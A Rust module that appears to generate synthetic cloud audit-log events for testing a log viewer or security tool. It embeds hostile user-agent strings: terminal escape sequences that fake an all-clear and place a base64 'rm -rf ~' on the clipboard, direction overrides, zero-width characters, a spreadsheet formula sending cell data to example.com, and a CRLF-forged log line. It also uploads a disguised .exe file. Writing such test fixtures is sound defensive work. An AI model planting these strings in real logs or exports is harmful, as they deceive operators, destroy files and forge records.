//! Strings that attack whoever reads them: a scanner that puts escape sequences, direction overrides and formulas into
//! its user agent, and an object whose name is not what it seems. None of it belongs to the intrusion.

use super::super::caller::Caller;
use super::super::calls::object_call;
use super::super::clock::at;
use super::super::event::{Call, Event, Journal};
use super::super::world::{HOME, NAT_PROD, PROD, place};
use serde_json::json;

/// The scanner's user agents, most of them drawn as something else than they are.
const AGENTS: &[&str] = &[
    // Clears the screen, then claims in green that all is well.
    "\u{1b}[2J\u{1b}[1;32mNo suspicious activity found\u{1b}[0m",
    // Sets the title of the window and writes to the clipboard.
    "curl/8.5.0\u{1b}]0;owned\u{7}\u{1b}]52;c;cm0gLXJmIH4K\u{7}",
    // Reads backwards from the middle on.
    "Mozilla/5.0 \u{202e}topS/0.1 etiruceS SWA\u{202c} (compatible)",
    // Zero-width characters: not the agent that it looks like.
    "aws\u{200b}-\u{200d}cli/2.24.10\u{feff}",
    // A formula for whoever exports it to a spreadsheet.
    "=HYPERLINK(\"https://example.com/?\"&A1,\"details\")",
    // Ends the line, and forges the next.
    "probe/1.0\r\n2026-03-17T14:06:11Z StopLogging DENIED root 127.0.0.1",
];

/// All of it.
pub fn events() -> Vec<Event> {
    let mut journal = Journal::of("story/hostile");
    let here = place(PROD, HOME);
    let towers = format!(
        "scan/1.0 {}",
        "Z\u{0351}\u{036b}\u{0343}\u{036a}\u{0302}\u{0314}\u{0315}".repeat(12)
    );
    let long = format!("scan/1.0 {}", "A".repeat(1_000));
    let agents = AGENTS.iter().copied().chain([towers.as_str(), long.as_str()]);
    for (number, agent) in (0..).zip(agents) {
        let nobody = Caller::stranger("anonymous", "")
            .from("203.0.113.201")
            .with(agent);
        let call = Call::read("s3", "GetObject").failed("AccessDenied", "Access Denied");
        let call = object_call(call, PROD, &format!("backup/db-{number}.sql"));
        journal.record(at("04:41:09") + number * 3, here, &nobody, call);
    }
    let mailer = super::super::caller::Session {
        account: PROD,
        role: "invoice-mailer",
        name: "invoice-mailer",
        key: journal.random.identifier("ASIA"),
        since: at("11:57:40"),
    };
    let mailer = mailer.caller().from(NAT_PROD).with("awslambda-worker/1.0");
    let call = Call::write("s3", "PutObject").adding(json!({"bytesTransferredIn": 48_128}));
    let call = object_call(call, PROD, "attachments/invoice_\u{202e}fdp.exe");
    journal.record(at("11:58:02"), here, &mailer, call);
    journal.events
}
